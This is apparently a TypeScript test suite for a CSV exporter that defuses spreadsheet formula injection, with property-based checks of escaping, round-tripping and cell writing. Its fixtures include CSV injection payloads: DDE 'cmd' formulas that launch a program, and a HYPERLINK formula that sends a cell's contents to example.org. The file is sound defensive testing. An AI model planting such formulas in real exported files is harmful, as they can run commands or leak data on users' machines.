import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { csvLines } from '../../src/csv/cells';
import { defuseFormulas, restoreFormulas } from '../../src/csv/formulas';

/** Payloads of OWASP's page on CSV injection, and what spreadsheets are known to trim or to take for one of the signs. */
const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=cmd|"/C calc"!A0',
  '=HYPERLINK("https://example.org?x="&A1,"Click")',
  '-2+3+cmd|" /C calc"!D2',
  '+351 912 345 678',
  '-5',
  '\t=1',
  '\tplain',
  '\rplain',
  '\nplain',
  '  =1',
  '\u00a0=1',
  '\u3000@x',
  '\u200b=1',
  '\ufeff=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff201',
  '\ufe661',
  '"=1',
  '" =1',
  "'=1",
];

/** A reader of tables that takes any of these for the end of a cell, and no quotes for anything. */
const cellsOf = (line: string): string[] => line.split(/[,;\t\r\n]/);
const dangerous = /^[\s\p{Cf}"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20\uFE66\uFE62\uFE63\uFE6B]/u;

describe('formulas in texts', () => {
  it.each(formulas)('%j gets an apostrophe in front', (text) => {
    expect(defuseFormulas(text).startsWith(`'`)).toBe(true);
    expect(defuseFormulas(text)).not.toBe(text);
    expect(restoreFormulas(defuseFormulas(text))).toBe(text);
  });

  it.each([
    ['a;=1', "a;'=1"],
    ['a, =1', "a,' =1"],
    ['a\n-b\n\n+c', "a\n'-b\n\n'+c"],
    ['a\r\n=b', "a\r\n'=b"],
    ['a\t@b', "a\t'@b"],
    ['a;"=1+1;', `a;'"=1+1;`],
    ['+351 1; +351 2', "'+351 1;' +351 2"],
  ])('%j begins no cell with one either', (text, defused) => {
    expect(defuseFormulas(text)).toBe(defused);
    expect(restoreFormulas(defused)).toBe(text);
  });

  it.each(['', 'a=b', 'a-b', 'ada@example.org', "'t Hooft", 'x + y', '2026-01-01', 'role_1', '\u2212 5'])(
    '%j stays as it is',
    (text) => {
      expect(defuseFormulas(text)).toBe(text);
      expect(restoreFormulas(text)).toBe(text);
    },
  );

  const text = fc.string({ unit: fc.constantFrom(...`'"=+-@,;\t\r\n a\u200b\uff1d`), maxLength: 12 });

  it('are restored exactly, and no cell begins with one, for every text, by whatever separator it is read', () => {
    fc.assert(
      fc.property(text, (given) => {
        const defused = defuseFormulas(given);
        expect(restoreFormulas(defused)).toBe(given);
        expect(cellsOf(defused).filter((cell) => dangerous.test(cell))).toEqual([]);
      }),
      { numRuns: 5_000 },
    );
  });

  it('survive as texts in a table, quotes and separators and line ends included', () => {
    const row = fc.array(text, { minLength: 1, maxLength: 4 });
    const format = fc.record({ separator: fc.constantFrom(',', ';'), bom: fc.constant(false) });
    fc.assert(
      fc.property(row, format, (cells, { separator }) => {
        const read = parse(csvLines([cells], { separator, bom: false }), { delimiter: separator });
        expect(read).toEqual([cells.map(defuseFormulas)]);
      }),
      { numRuns: 2_000 },
    );
  });

  it('are defused in time that is linear in the length of the text', () => {
    for (const unit of [`'`, ' ', ',', '\n', `'"`, `,'`, '\t ']) {
      const long = unit.repeat(200_000);
      expect(restoreFormulas(defuseFormulas(`${long}=`))).toBe(`${long}=`);
    }
  });
});

describe('cells', () => {
  it.each<[unknown, string]>([
    [null, ''],
    [undefined, ''],
    [-5, '-5'],
    [1.5, '1.5'],
    [true, 'true'],
    [false, 'false'],
    ['-5', "'-5"],
    [new Date('2026-11-23T12:00:00Z'), '2026-11-23T12:00:00.000Z'],
    [['a', 'b'], 'a; b'],
    [['=a', '=b'], "'=a;' =b"],
    [['a', null, 'b'], 'a; ; b'],
    [[null, null], ''],
    [[], ''],
    [{ a: 1 }, '"{""a"":1}"'],
    ['a "b", c', '"a ""b"", c"'],
    ['a\nb', '"a\nb"'],
  ])('%j is written %s', (value, written) => {
    expect(csvLines([[value, 'x']], { separator: ',', bom: false })).toBe(`${written},x\r\n`);
  });

  it('keep an empty one that stands alone', () => {
    expect(csvLines([[null], ['a']], { separator: ',', bom: false })).toBe('""\r\na\r\n');
  });
});
